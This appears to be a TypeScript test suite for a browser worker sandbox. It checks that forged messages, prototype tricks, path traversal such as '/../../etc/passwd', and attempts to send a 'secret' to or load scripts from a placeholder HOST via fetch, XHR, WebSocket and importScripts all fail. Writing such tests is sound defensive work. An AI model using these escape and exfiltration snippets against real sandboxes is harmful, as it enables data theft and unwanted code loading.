// Code that forges messages of the sandbox, and code that tries to escape, as cases of sandbox-cases.ts.
import assert from 'node:assert/strict'
import type { RunReport } from './page'
import { returned, returnedText, threw, type SandboxCase } from './sandbox-case'

export const forgeryCases: readonly SandboxCase[] = [
  {
    name: 'a forged result is only the code’s own result',
    code: 'postMessage({ type: "done", ok: true, text: "\\"forged\\"", isJson: true }); for (;;);',
    value: 'forged',
  },
  {
    name: 'a second result does not count',
    code: 'postMessage({ type: "done", ok: true, text: "1", isJson: true }); postMessage({ type: "done", ok: true, text: "2", isJson: true }); for (;;);',
    value: 1,
  },
  {
    name: 'a result that claims to be JSON and is not stays text',
    code: 'postMessage({ type: "done", ok: true, text: "{oops", isJson: true }); for (;;);',
    expect: (r) => assert.equal(returnedText(r), '{oops'),
  },
  {
    name: 'control messages of the relay can’t be forged',
    code: 'for (const type of ["ready", "pong", "killed", "run", "kill", "answer"]) postMessage({ type, run: "x", n: 1, id: 1 }); return "still here"',
    value: 'still here',
  },
  {
    name: 'unknown and inherited operations are refused',
    code: `const answers = []
      addEventListener("message", (e) => { if (e.data.type === "answer" && e.data.id >= 900) answers.push(e.data.answer.code) })
      ;["constructor", "__proto__", "toString", "watch", "close", "eval", ""].forEach((op, i) => postMessage({ type: "call", id: 900 + i, op, args: ["/"] }))
      while (answers.length < 7) await new Promise((r) => setTimeout(r, 5))
      return [...new Set(answers)]`,
    value: ['ENOSYS'],
  },
  {
    name: 'arguments of the wrong kind are refused',
    files: { '/keep': 'kept' },
    code: `const answers = []
      addEventListener("message", (e) => { if (e.data.type === "answer" && e.data.id >= 900) answers.push(e.data.answer.ok) })
      const remove = '[{"kind":"remove","path":"/keep"}]'
      const bad = [[], [{}], [null, new Blob([])], [remove], [remove, "x"], [new Uint8Array(3), new Blob([])], [{ toString: null }]]
      bad.forEach((args, i) => postMessage({ type: "call", id: 900 + i, op: "commit", args }))
      while (answers.length < bad.length) await new Promise((r) => setTimeout(r, 5))
      return answers.every((ok) => !ok)`,
    expect: (r) => {
      assert.equal(returned(r), true)
      assert.equal(r.files['/keep'], 'kept')
    },
  },
  {
    name: 'tricks on prototypes and built-ins stay inside',
    code: `Object.prototype.polluted = 1; Array.prototype.map = () => "gone"; Promise.prototype.then = undefined; JSON.stringify = () => "forged"; String = null; Map.prototype.get = () => () => 0
      return 5`,
    expect: (r) => assert.notEqual(r.outcome.kind, 'unavailable'),
  },
  {
    name: 'hostile values are only text',
    code: 'return { get a() { throw 1 }, toJSON() { throw 2 }, __proto__: null, [Symbol.toPrimitive]() { throw 3 } }',
    expect: (r) => assert.equal(r.outcome.kind, 'returned'),
  },
  {
    name: 'cycles and BigInts are shown',
    code: 'const a = { n: 5n }; a.self = a; a',
    expect: (r) => assert.equal(returned(r), '{ n: 5n, self: [Circular] }'),
  },
  {
    name: 'paths can’t leave the conversation’s files',
    files: { '/keep': 'kept' },
    code: `const tries = ["../../../etc/x", "/../../etc/passwd", "/a/../../x", "..\\\\x", "/a\\0b", "/\\ud800", "__proto__", "/constructor/x"]
      const codes = []
      for (const path of tries) for (const op of [() => fs.readFileSync(path), () => fs.writeFileSync(path, "x"), () => fs.readdirSync(path), () => fs.renameSync("/keep", path)])
        try { op(); codes.push("done " + path) } catch (e) { codes.push(e.code) }
      return [[...new Set(codes)].sort(), fs.readdirSync("/").sort()]`,
    expect: (r) => {
      const [codes, names] = returned(r) as readonly [codes: readonly string[], names: readonly string[]]
      assert.deepEqual(
        codes.filter(
          (each) => !['EINVAL', 'ENOENT', 'ENOTDIR', 'ERR_INVALID_ARG_VALUE', 'done /a/../../x'].includes(each),
        ),
        [],
      )
      // Going up from the root stays at the root.
      assert.deepEqual(names, ['x'])
      assert.deepEqual(r.files, { '/x': 'kept' })
    },
  },
  ...[
    ['no JSON', '{{{'],
    ['a step that is nothing', '[null]'],
    ['an unknown kind', '[{"kind":"chmod","path":"/keep"}]'],
    ['a way out', '[{"kind":"write","path":"/../../etc/x","at":0,"size":2}]'],
    ['a NUL', '[{"kind":"write","path":"/a\\u0000b","at":0,"size":2}]'],
    ['__proto__', '[{"kind":"write","path":"/__proto__/constructor","at":0,"size":2}]'],
    ['bytes that did not come', '[{"kind":"write","path":"/x","at":1e15,"size":2}]'],
    [
      'more files than a chat holds',
      JSON.stringify(Array.from({ length: 20_001 }, (_, at) => ({ kind: 'write', path: `/n${at}`, at: 0, size: 1 }))),
    ],
  ].map(([name, list]) => ({
    name: `a forged list of changes does nothing: ${name}`,
    files: { '/keep': 'kept' },
    code: `const answer = new Promise((ok) => addEventListener("message", ({ data }) => { if (data.id === 9000) ok(data.answer) }))
      postMessage({ type: "call", id: 9000, op: "commit", args: [${JSON.stringify(list)}, new Blob(["xxxx"])] })
      const { ok, code, message } = await answer
      return [ok, typeof code, message.endsWith(".")]`,
    expect: (r: RunReport) => {
      assert.deepEqual(returned(r), [false, 'string', true])
      assert.deepEqual(r.files, { '/keep': 'kept' })
    },
  })),
  {
    name: 'a list of changes is handed in once, so a forged one costs the run its own',
    files: { '/keep': 'kept' },
    code: `postMessage({ type: "call", id: 9000, op: "commit", args: ["[]", new Blob([])] }); require("fs").writeFileSync("/own", "x"); return 1`,
    expect: (r) => {
      threw(r, /None of its changes to files were kept/)
      assert.deepEqual(r.files, { '/keep': 'kept' })
    },
  },
  {
    name: 'files that can only be read say so at the first change',
    files: { '/keep': 'kept' },
    readOnly: true,
    code: `const out = []; for (const op of [() => fs.writeFileSync("/n", "x"), () => fs.appendFileSync("/keep", "x"), () => fs.mkdirSync("/d"), () => fs.unlinkSync("/keep"), () => fs.renameSync("/keep", "/k"), () => fs.truncateSync("/keep")]) try { op(); out.push("done") } catch (e) { out.push(e.code + (e.message.endsWith("The files can only be read here. Nothing was changed.") ? "" : e.message)) }
      return [...new Set(out), fs.readFileSync("/keep", "utf8")]`,
    value: ['EROFS', 'kept'],
  },
  {
    name: 'links are refused',
    files: { '/keep': 'kept' },
    code: 'const out = []; for (const f of ["symlinkSync", "linkSync"]) try { fs[f]("/keep", "/l"); out.push("made") } catch (e) { out.push(e.code) } return [out, fs.readdirSync("/"), ["mount", "chroot", "xattr"].map((n) => typeof fs[n]), fs.existsSync("/dev"), fs.existsSync("/proc")]',
    value: [['EPERM', 'EPERM'], ['keep'], ['undefined', 'undefined', 'undefined'], false, false],
  },
]

export const outsideCases: readonly SandboxCase[] = [
  {
    name: 'there is no page, storage or credential to reach',
    code: `const names = ["window", "document", "parent", "top", "opener", "frames", "localStorage", "sessionStorage", "cookieStore", "RTCPeerConnection", "Worker"]
      return names.filter((name) => typeof globalThis[name] !== "undefined")`,
    value: [],
  },
  {
    name: 'databases and caches of the app can’t be opened',
    code: `const outcome = []
      try { await new Promise((ok, no) => { const q = indexedDB.open("nod-files-x"); q.onsuccess = () => ok(); q.onerror = () => no(q.error) }); outcome.push("idb") } catch {}
      try { await caches.keys(); outcome.push("caches") } catch {}
      try { await navigator.storage.getDirectory(); outcome.push("opfs") } catch {}
      try { await navigator.locks.request("nod:vfs:x", () => outcome.push("locks")) } catch {}
      return outcome`,
    value: [],
  },
  {
    name: 'a broadcast does not reach the app',
    code: 'try { new BroadcastChannel("nod:vfs:changes:x").postMessage("changed") } catch {} return self.origin',
    value: 'null',
  },
  {
    name: 'the app’s own API can’t be asked',
    code: `const native = Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch ?? fetch
      try { return await (await native.call(self, "APP/api/secret", { credentials: "include" })).text() } catch (e) { return "refused" }`,
    value: 'refused',
  },
  {
    name: 'no request leaves: fetch, XHR, WebSocket, EventSource, WebTransport',
    code: `const done = []
      let proto = self; while (proto && !Object.hasOwn(proto, "__never")) { const f = Object.getOwnPropertyDescriptor(proto, "fetch"); if (f?.value) { try { await f.value.call(self, "http://HOST/fetch"); done.push("fetch") } catch {} } proto = Object.getPrototypeOf(proto) }
      try { await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("POST", "http://HOST/xhr"); x.onload = ok; x.onerror = no; x.send("secret") }); done.push("xhr") } catch {}
      try { const x = new XMLHttpRequest(); x.open("GET", "http://HOST/xhr-sync", false); x.send(); done.push("sync") } catch {}
      try { await new Promise((ok, no) => { const w = new WebSocket("ws://HOST/ws"); w.onopen = ok; w.onerror = no }); done.push("ws") } catch {}
      try { await new Promise((ok, no) => { const s = new EventSource("http://HOST/sse"); s.onopen = ok; s.onerror = no }); done.push("sse") } catch {}
      try { const t = new WebTransport("https://HOST/wt"); await t.ready; done.push("wt") } catch {}
      try { navigator.sendBeacon?.("http://HOST/beacon") && done.push("beacon") } catch {}
      return done`,
    value: [],
  },
  {
    name: 'no code is loaded: importScripts, import(), nested workers, WebAssembly',
    code: `const done = []
      try { importScripts("http://HOST/import.js"); done.push("importScripts") } catch {}
      try { importScripts("data:text/javascript,1"); done.push("data") } catch {}
      try { await import("http://HOST/module.js"); done.push("import") } catch {}
      try { await new AsyncFunction("return import('http://HOST/module2.js')")(); done.push("import2") } catch {}
      try { await WebAssembly.compileStreaming(fetch("http://HOST/x.wasm")); done.push("wasm") } catch {}
      try { new SharedWorker("http://HOST/w.js"); done.push("shared") } catch {}
      try { const W = Object.getPrototypeOf(self).Worker ?? self.Worker; new W("http://HOST/w.js"); done.push("worker") } catch {}
      return done`,
    value: [],
  },
  {
    name: 'nothing can be navigated or opened',
    code: `const done = []
      try { self.location = "http://HOST/location" } catch {}
      try { location.href = "http://HOST/href" } catch {}
      try { location.assign("http://HOST/assign") } catch {}
      try { open("http://HOST/open"); done.push("open") } catch {}
      try { clients.openWindow("http://HOST/client") } catch {}
      try { new Notification("x", { icon: "http://HOST/icon" }) } catch {}
      try { new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN" }] }).createDataChannel("x"); done.push("rtc") } catch {}
      return done`,
    value: [],
  },
  {
    name: 'no font, image or style is fetched',
    code: `try { await new FontFace("x", "url(http://HOST/font)").load() } catch {}
      try { const c = new OffscreenCanvas(1, 1).getContext("2d"); c.font = "1px url(http://HOST/canvas)"; c.filter = "url(http://HOST/filter#x)"; c.fillRect(0, 0, 1, 1) } catch {}
      return "tried"`,
    value: 'tried',
  },
]
